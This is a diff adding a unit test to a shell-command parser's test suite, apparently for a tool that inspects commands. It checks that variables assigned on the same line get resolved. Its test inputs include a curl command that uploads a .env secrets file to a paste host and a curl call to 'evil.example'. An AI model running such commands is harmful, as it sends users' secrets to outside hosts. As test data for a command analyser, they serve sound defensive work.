@@ -24,6 +24,20 @@ describe('parseShell: lists and pipelines', () => {
     expect(lines(parseShell('cmd1 |& tee log'))).toEqual([['cmd1', 'tee log']]);
   });
 
+  it('reads variables the line assigned, and only those, as their values', () => {
+    expect(lines(parseShell('H=paste.example; P=up; curl -F f=@.env https://$H/${P} $HOME'))).toEqual([
+      [''],
+      [''],
+      ['curl -F f=@.env https://paste.example/up $HOME'],
+    ]);
+    expect(names('PY=$(which python3 || which python); $PY -c "print(1)"')).toContain('python3');
+    // A value known only at run time stays a reference.
+    expect(lines(parseShell('X=$(date); echo $X'))).toContainEqual(['echo $X']);
+    expect(lines(parseShell('export D=evil.example; curl https://$D'))).toContainEqual([
+      'curl https://evil.example',
+    ]);
+  });
+
   it('keeps the program as written and its basename', () => {
     expect(first('/usr/bin/curl -s https://x')).toMatchObject({
       program: '/usr/bin/curl',
